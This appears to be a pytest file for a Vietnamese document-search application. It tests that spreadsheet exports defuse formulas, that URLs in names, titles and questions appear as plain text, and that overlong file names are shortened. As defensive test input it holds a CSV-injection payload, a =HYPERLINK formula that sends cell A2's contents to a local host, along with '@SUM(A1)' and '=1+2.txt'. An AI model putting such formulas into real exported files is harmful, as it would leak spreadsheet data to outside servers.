"""Nothing from a document or a file name is live: a comparison exported as CSV or XLSX holds
no cell a spreadsheet would run (OWASP's rule for CSV injection), and in the browser a URL in
a file name, a title, a heading or the question is shown as text, never as a link."""

from __future__ import annotations

import csv
import json

import pytest

from index.store import Index
from ingest.pipeline import ingest
from tests.conftest import CORPUS, MAX_BYTES
from tests.support.browser import ask, launch
from tools.compare import compare
from tools.exports import FORMULA_START, write_table

LONG = "ệ" * 149 + ".txt"  # 451 bytes in UTF-8: over every file system's 255
FORMULA = '=HYPERLINK("http://127.0.0.1:9/x?"&A2,"Bấm để xem báo cáo")'


@pytest.mark.integration
def test_exported_cells_never_start_like_a_formula(embedder, tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    original = (CORPUS / "004_70c20d1112d6ed16.txt").read_text(encoding="utf-8")
    (corpus / "=1+2.txt").write_text(f"{FORMULA}\n\n{original}", encoding="utf-8")
    (corpus / "=1+2.txt.meta.json").write_text(json.dumps({"title": FORMULA, "locality": "@SUM(A1)"}), encoding="utf-8")
    index = Index(tmp_path / "idx", embedder)
    ingest([corpus], index, MAX_BYTES, progress=False)
    table = compare(index)
    write_table(table, tmp_path / "t.csv")
    with open(tmp_path / "t.csv", encoding="utf-8-sig") as f:
        cells = [cell for line in csv.reader(f) for cell in line]
    assert "'=1+2.txt" in cells and any(c.startswith("'=HYPERLINK") for c in cells)  # kept, as text
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    write_table(table, tmp_path / "t.xlsx")
    from openpyxl import load_workbook

    book = load_workbook(tmp_path / "t.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value  # no formula anywhere
                assert not (isinstance(cell.value, str) and cell.value.startswith(FORMULA_START))


@pytest.mark.slow
def test_a_url_in_a_name_title_heading_or_question_is_not_a_link(server, tmp_path):
    """A URL is shown as text, and the page asks nothing of any other server (not even for the tab icon)."""
    from playwright.sync_api import sync_playwright

    text = (
        "Xem báo cáo tại http://127.0.0.1:9/tieu-de và www.vidu.vn\n\n"
        "I. Kết quả, chi tiết ở https://127.0.0.1:9/muc hoặc hỏi tro-ly@vidu.vn\n\n"
        "Năm 2017 quận Ninh Kiều, thành phố Cần Thơ tổ chức hội thi bơi lội cho 88 em học sinh.\n"
    ).encode()
    with sync_playwright() as p:
        context = launch(p, tmp_path, 1400)
        page = context.new_page()
        requests: list[str] = []
        page.on("request", lambda r: requests.append(r.url))
        page.goto(f"{server}/thu-vien")
        page.locator("input[type=file]").wait_for(state="attached", timeout=180_000)
        page.locator("input[type=file]").set_input_files(
            files=[
                {"name": "www.vidu.vn.txt", "mimeType": "text/plain", "buffer": text},
                {"name": LONG, "mimeType": "text/plain", "buffer": "Tỉnh tổ chức 3 lớp tập huấn.\n".encode()},
            ]
        )
        page.get_by_role("button", name="Nạp vào chỉ mục").click()
        page.get_by_text("Đã nạp 2 tệp").wait_for(timeout=60_000)  # a 451-byte name is stored shortened
        assert "Errno" not in page.content() and "Traceback" not in page.content()
        page.get_by_test_id("stSelectbox").filter(has_text="Đọc toàn văn").click()
        page.get_by_role("option", name="www.vidu.vn.txt").click()
        page.get_by_text("hội thi bơi lội cho 88 em").first.wait_for(timeout=30_000)
        links = "a[href*='127.0.0.1:9'], a[href*='vidu'], a[href^='mailto']"
        assert page.locator(links).count() == 0
        page.goto(server)
        page.get_by_test_id("stChatInputTextArea").wait_for(timeout=120_000)
        ask(page, "Quận Ninh Kiều, Cần Thơ tổ chức hội thi bơi lội cho bao nhiêu em học sinh?")
        assert "88 em" in page.get_by_test_id("stChatMessage").last.inner_text()
        page.get_by_test_id("stExpander").filter(has_text="Xem báo cáo tại").first.click()
        page.get_by_text("Tệp: www").first.wait_for(timeout=30_000)
        ask(page, "Ai chủ trì hội nghị ở đó? http://127.0.0.1:9/hoi")  # read as "… ở Cần Thơ? http://…"
        page.get_by_text("Hiểu câu hỏi là").wait_for(timeout=30_000)
        assert page.locator(links).count() == 0
        assert [u for u in requests if not u.startswith((server, "data:", "blob:"))] == []  # offline: no icon fetched


@pytest.mark.integration
def test_a_name_too_long_is_stored_shortened_and_a_failed_batch_leaves_nothing(embedder, tmp_path):
    from ingest.uploads import save_and_ingest

    index = Index(tmp_path / "idx", embedder)
    index.open(create=True)
    up = tmp_path / "up"
    text = "Năm 2017 tỉnh tổ chức 12 lớp học bơi cho trẻ em.\n".encode()
    result = save_and_ingest([(LONG, text), ("khac.txt", text + b"Them.\n")], up, index, MAX_BYTES)
    assert result.report is not None and result.report.added == 2
    (given, stored), *_ = result.renamed
    assert given == LONG and len(stored.encode()) <= 255
    assert index.records()[stored].file_name == LONG  # the full name is kept with the document
    before = sorted(p.name for p in up.iterdir())
    with pytest.raises(TypeError):  # the second file cannot be written: the first is not left behind
        save_and_ingest([("moi.txt", b"Noi dung moi ve tre em.\n"), ("hong.txt", None)], up, index, MAX_BYTES)
    assert sorted(p.name for p in up.iterdir()) == before
    assert "moi.txt" not in index.records()


@pytest.mark.unit
def test_the_library_table_converts_to_arrow_with_a_paged_document():
    """Streamlit hands the table to Arrow: a column of page counts mixed with "" failed there
    and was logged with a traceback on every library view."""
    import pyarrow

    from index.records import DocRecord
    from ui.library import table_rows

    records = {"scan.pdf": DocRecord(id="scan.pdf", title="Bản quét", pages=3), "a.txt": DocRecord(id="a.txt")}
    table = pyarrow.Table.from_pylist(table_rows(records, {}))
    assert table.column("Trang").to_pylist() == ["", "3"]
